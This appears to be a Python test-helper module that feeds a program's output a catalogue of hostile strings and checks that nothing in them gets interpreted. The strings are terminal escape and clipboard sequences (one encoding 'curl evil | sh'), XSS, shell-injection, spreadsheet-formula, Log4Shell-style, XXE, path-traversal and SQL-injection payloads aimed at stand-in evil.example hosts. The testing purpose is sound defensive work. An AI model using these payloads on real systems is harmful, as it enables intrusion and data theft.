"""Text that tries to be more than text, and what must be true of all that is written of it.

``TEXTS`` are the known tricks, ``texts()`` mixes them and grows new ones. The checks know nothing of the
program's own escaping: they read what was written as its reader would.
"""

from __future__ import annotations

import csv
import dataclasses
import html.parser
import io
import itertools
import shlex
import unicodedata
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

from hypothesis import strategies as st
from pydantic import BaseModel

TEXTS: dict[str, str] = {
    "empty": "",
    "markup": "[b]Ω[/b] [/] [@click=app.quit]q[/] [bold red {} $text-error",
    "colour": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "device": "\x1bP$q\x1b\\\x1b[6n\x1b[c\x1b[21t\x05",
    "c1": "\x9b31m\x9d0;owned\x9c\x90x\x9c\x85",
    "bidi": "\u202eexe.gpj\u202c \u202a\u202b\u202d \u2066\u2067\u2068x\u2069 \u061c\u200e\u200f",
    "unseen": "pay\u200bload\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\U000e0041\ufff9x\ufffa",
    "separators": "a\u2028b\u2029c\x0bd\x0ce\x1cf\x1dg\x1eh",
    "right-to-left": "שלום עולם مرحبا 123 vpc-0a1",
    "storm": "e" + "\u0301\u0302\u0303\u0489" * 200,
    "wide": "日本語テキスト👩\u200d👩\u200d👧🇩🇪﷽",
    "lines": "a\nb\r\nc\rd\n\n\t" * 20,
    "huge": "x" * 20_000,
    "nul": "a\x00b",
    "delete": "a\x7f\x08\x08\x08b",
    "surrogates": "\ud800 \udfff \udc80",
    "formula": "=cmd|'/C calc'!A0",
    "formulas": '+1+1\n-2+3\n@SUM(1)\n\t=1\n\r=1\n"=1',
    "script": "</script></title><script>alert(1)</script><!-- --><![CDATA[ ]]>",
    "attribute": "\" onmouseover=alert(1) x='y' href=javascript:alert(1)",
    "image": "<img src=x onerror=alert(1)><svg/onload=alert(1)>&lt;b&gt;&#x3c;b",
    "markdown-link": "](javascript:alert(1)) [x](data:text/html;base64,PHM+) <https://evil.example>",
    "markdown-image": "![x](https://evil.example/beacon.png) | a || b |",
    "fences": "`x` ```\n```sh\nrm -rf /\n```\n~~~\n# head\n---\n> quote\n- item",
    "mention": "@team #123 mail@example.com www.evil.example https://evil.example",
    "shell": "x'; touch owned; echo \"$(touch owned)`touch owned`${IFS}&& touch owned || #",
    "shell-line": "x\ntouch owned\n#'\ntouch owned\n\"\ntouch owned",
    "option": "--profile=evil -rf --endpoint-url=http://evil.example",
    "file": "file:///etc/passwd fileb://etc/passwd @/etc/passwd ../../../etc/passwd",
    "format": "{0} {x.__class__} %s %n ${jndi:ldap://evil.example} {{7*7}} \\u001b[31m \\x1b",
    "json": '", "ok": true, "x": "\\',
    "xml": ']]> &xxe; <?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    "sql": "'; DROP TABLE events; --",
}
"""A name for each trick, as test ids, and the text."""

_INVISIBLE = frozenset(
    {0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, *range(0x180B, 0x1810), 0x3164, 0xFFA0}
    | {*range(0x2060, 0x2070), *range(0xFE00, 0xFE0E), *range(0xFFF0, 0xFFFC), *range(0xE0000, 0xE1000)}
)
"""Characters that have no picture though their category is that of letters or marks, or that are not assigned
(``Default_Ignorable_Code_Point`` of Unicode's DerivedCoreProperties, without the two selectors of text and
emoji style)."""
_SEEN = frozenset(
    {*range(0x600, 0x606), 0x6DD, 0x70F, 0x890, 0x891, 0x8E2, 0x110BD, 0x110CD, *range(0x13430, 0x13460)}
)
"""Signs of the category of unseen ones that do have a picture: Arabic number signs and the like, and what places
Egyptian hieroglyphs."""


def texts(most: int = 200) -> st.SearchStrategy[str]:
    """Known tricks, any characters at all (lone surrogates too), and mixtures of both."""
    anything = st.text(st.characters(), max_size=40)
    trick = st.sampled_from(sorted(TEXTS.values())).map(lambda text: text[:most])
    mixed = st.lists(st.one_of(trick, anything), max_size=4).map(lambda parts: "".join(parts)[:most])
    return st.one_of(trick, anything, mixed)


def obeyed(text: str, but: str = "\n") -> str:
    """The first character that a terminal would obey or an eye would miss, as its code point; "" if none.

    ``but``: characters that are allowed, because the writer put them there.
    """
    for letter in text:
        code = ord(letter)
        if letter in but or code in _SEEN:
            continue
        if unicodedata.category(letter) in ("Cc", "Cf", "Cs", "Zl", "Zp") or code in _INVISIBLE:
            return f"U+{code:04X}"
    return ""


class _Marks(html.parser.HTMLParser):
    """Counts what a browser would make of a page: each tag with its attributes' names, each address."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.marks: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.marks[f"<{tag} {' '.join(sorted(name for name, _ in attrs))}>"] += 1
        for name, value in attrs:
            if name in ("href", "src", "action", "style", "srcdoc"):
                self.marks[f"{name}={value}"] += 1

    def handle_comment(self, data: str) -> None:
        self.marks["<!-- -->"] += 1

    def handle_decl(self, decl: str) -> None:
        self.marks[f"<!{decl}>"] += 1

    def unknown_decl(self, data: str) -> None:
        self.marks["<![ ]>"] += 1

    def handle_pi(self, data: str) -> None:
        self.marks["<? ?>"] += 1


def html_marks(page: str) -> Counter[str]:
    """What is more than text in an HTML page. Equal for a page of calm values and one of hostile ones."""
    reader = _Marks()
    reader.feed(page)
    reader.close()
    return reader.marks


def markdown_marks(text: str) -> Counter[str]:
    """What is more than text in CommonMark with tables, once it is rendered, raw HTML included."""
    from markdown_it import MarkdownIt

    return html_marks(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))


def formulas(table: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would calculate instead of show."""
    rows = csv.reader(io.StringIO(table, newline=""))
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r") and cell
    ]


STEERING = frozenset(
    {
        "kind",
        "action",
        "type",
        "severity",
        "direction",
        "turn",
        "number",
        "actor",
        "platform",
        "stage",
        "decision",
        "target_type",
        "cidrs",
    }
)
"""Fields that hold words of the program's own, whatever a cloud says."""


def rotated(start: int, given: Sequence[str] = tuple(TEXTS.values())) -> Iterator[str]:
    """One text after the other, for ever, from the one at ``start`` on."""
    return itertools.cycle((*given[start:], *given[:start]))


def word(text: str | Iterator[str]) -> str:
    """The text, or the next one."""
    return text if isinstance(text, str) else next(text)


def options(*commands: str) -> set[str]:
    """What the clouds' CLIs would take for an option in these commands of a shell."""
    words = {word for command in commands for word in shlex.split(command)}
    return {word for word in words if word.startswith("-") and not word[1:].isdecimal()}


def spoil(value: Any, text: str | Iterator[str], name: str = "") -> Any:
    """The value with every string in it replaced, but for the words and keys that steer the program."""
    if isinstance(value, str):
        return value if name in STEERING or name == "state" else word(text)
    if isinstance(value, BaseModel):
        return value.model_copy(update=_fields(value, type(value).model_fields, text))
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        names = [one.name for one in dataclasses.fields(value) if one.init]
        return dataclasses.replace(value, **_fields(value, names, text))
    if isinstance(value, tuple):
        return tuple(spoil(one, text, name) for one in value)
    if isinstance(value, Mapping):
        return {key: spoil(one, text, name) for key, one in value.items()}
    return value


def _fields(value: Any, names: Any, text: str | Iterator[str]) -> dict[str, Any]:
    """Every field spoiled; keys stay, because two things may not have the same one."""
    keep = {"key", "code"}
    return {
        name: spoil(getattr(value, name), text, name)
        for name in names
        if name not in keep and not (name == "id" and hasattr(value, "cidr"))
    }
